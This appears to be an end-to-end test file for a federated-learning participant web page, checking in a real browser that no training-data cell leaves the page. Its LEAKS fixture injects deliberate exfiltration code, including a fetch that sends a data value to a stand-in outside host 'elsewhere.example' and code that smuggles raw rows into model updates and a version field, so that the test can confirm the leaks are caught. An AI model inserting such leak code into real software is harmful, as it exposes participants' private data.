import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { softmaxRun, temporaryFolder } from '../harness/small-federation.ts'
import { buildDashboard, type SourceChange } from './build-page.ts'
import { cellNeedles } from './cell-needles.ts'
import { launchBrowser, missingBrowser } from './chromium.ts'
import { csvOf } from './csv-rows.ts'
import { PageWorld } from './page-world.ts'
import { ParticipantPage } from './participant-page.ts'
import { recordRequests, type Sent } from './request-recorder.ts'

process.env.TRIBUTARY_BACKEND = 'wasm'

const TABLE = { client: 1, rows: 40 }

/** A page that gives rows away: in an address, in an update, over the socket, and to another origin, which its policy forbids. */
const LEAKS: readonly SourceChange[] = [
  {
    file: 'participant/connect/connected-data.ts',
    change: (source) =>
      source.replace(
        'const names = classNames(recipe)',
        `const names = classNames(recipe)
  void fetch('/healthz?rows=' + String(dataset.features[3]))
  void fetch('http://elsewhere.example/' + String(dataset.features[4])).catch(() => undefined)`,
      ),
  },
  {
    file: 'client/src/session/train-round.ts',
    change: (source) =>
      source.replace(
        'return { encoded: encodeUpdate(tensors,',
        'for (const tensor of tensors) tensor.data.set(data.features.subarray(0, Math.min(2, tensor.data.length)))\n  return { encoded: encodeUpdate(tensors,',
      ),
  },
  {
    file: 'client/src/session/participant-session.ts',
    change: (source) => source.replace('clientVersion: CLIENT_VERSION', 'clientVersion: String(workshop.data.features[2])'),
  },
]

/** What Chromium asks its maker on its own: updates, whether anybody is signed in, what a form's fields are. */
const OF_THE_BROWSER =
  /^(update|content-autofill|optimizationguide-pa|safebrowsing)\.googleapis\.com(:443)?$|^(accounts|www)\.google\.com:443$/

interface WholeRun {
  readonly sent: readonly Sent[]
  /** Hosts that the page or its workers asked for, let through or not. */
  readonly asked: readonly string[]
  /** The coordinator. */
  readonly host: string
  /** Hosts that something was sent to and that are neither the coordinator nor asked by the browser itself. */
  readonly others: readonly string[]
  readonly complaints: readonly string[]
}

describe.skipIf(missingBrowser !== null)('no row leaves the participant page', () => {
  let folder: Awaited<ReturnType<typeof temporaryFolder>>
  beforeAll(async () => {
    folder = await temporaryFolder()
  })
  afterAll(() => folder?.remove())

  /** A whole run with the page of a build; everything that its browser sent. */
  async function sentInWholeRun(build: string, changes: readonly SourceChange[]): Promise<WholeRun> {
    const dashboard = `${folder.path}/${build}`
    await buildDashboard(dashboard, changes)
    const world = await PageWorld.open(dashboard, `${folder.path}/${build}-data`)
    const recorder = await recordRequests(world.coordinator.port)
    const proxy = [`--proxy-server=${recorder.address}`, '--proxy-bypass-list=<-loopback>']
    const browser = await launchBrowser(proxy)
    try {
      const federation = await world.federation('private')
      await world.joinInNode(federation, 'alder', { client: 0, rows: 30 })
      const page = await browser.newPage()
      const asked = new Set<string>()
      page.context().on('request', (request) => asked.add(new URL(request.url()).host))
      const participant = new ParticipantPage(page)
      await participant.openInvite(world.coordinator.url, await world.invite(federation, 'birch'), 'birch')
      await participant.accept()
      await participant.choose([{ name: 'rows.csv', content: csvOf(TABLE) }])
      await participant.readAndStart()
      await participant.takesPart()
      const run = await world.run(federation, softmaxRun(3, 2))
      await world.completed(run)
      await participant.sees(/of your own rows/)
      const host = `127.0.0.1:${world.coordinator.port}`
      const others = [...new Set(recorder.sent.map((one) => one.host))].filter((one) => one !== host && !OF_THE_BROWSER.test(one))
      return { sent: recorder.sent, asked: [...asked], host, others, complaints: participant.complaints }
    } finally {
      await browser.close()
      await recorder.close()
      await world.close()
    }
  }

  const leaksIn = (sent: readonly Sent[], csv: string): string[] => {
    const needles = cellNeedles(csv)
    expect(needles.count).toBeGreaterThan(TABLE.rows * 6)
    return sent.flatMap(({ what, bytes }) => [...needles.in(bytes())].map((kind) => `${kind} in ${what}`))
  }

  test('in a whole run nothing that the browser sends holds a cell, and nothing goes anywhere else', async () => {
    const { sent, asked, host, others, complaints } = await sentInWholeRun('honest', [])
    expect(sent.filter((one) => one.what.startsWith('PUT') && /\/update$/.test(one.what))).toHaveLength(3)
    expect(sent.filter(({ what }) => what === 'a socket').length).toBeGreaterThan(0)
    expect(asked).toEqual([host])
    expect(others).toEqual([])
    expect(leaksIn(sent, csvOf(TABLE))).toEqual([])
    expect(complaints).toEqual([])
  })

  test('a page that leaks is caught, whichever way it takes; its way to another origin is barred', async () => {
    const { sent, others, complaints } = await sentInWholeRun('leaky', LEAKS)
    const found = new Set(leaksIn(sent, csvOf(TABLE)))
    expect(found).toContain('a cell as text in GET /healthz')
    expect(found).toContain('a cell as text in a socket')
    expect([...found].some((one) => /^cells as float32 in PUT .*\/update$/.test(one))).toBe(true)
    expect(others).toEqual([])
    expect(complaints.some((complaint) => /elsewhere\.example.*(Content Security Policy|CSP)/s.test(complaint))).toBe(true)
  })
})
